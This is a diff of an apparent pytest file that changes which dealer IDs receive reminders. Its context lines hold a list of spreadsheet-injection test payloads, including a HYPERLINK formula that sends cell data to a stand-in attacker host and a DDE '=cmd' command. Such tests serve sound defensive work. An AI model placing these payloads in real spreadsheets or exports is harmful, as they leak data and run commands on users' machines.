@@ -24,7 +24,7 @@ from test_exchange import fill, monthly_rows
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&B2,"Click me")', "=cmd|' /C calc'!A0",
             "external:\\\\evil.example\\share\\x.exe", "https://evil.example/login", "+1+1", "@SUM(1,2)"]
 MONTH = "2026-10"
-DEALERS = ["D00001", "D00002", "D00003", "D00004", "D00007", "D00008"]  # current dealers: they get reminders
+DEALERS = ["D00001", "D00002", "D00003", "D00005", "D00008", "D00009"]  # active in the sample all year: they get reminders
 
 
 @pytest.fixture(scope="module")
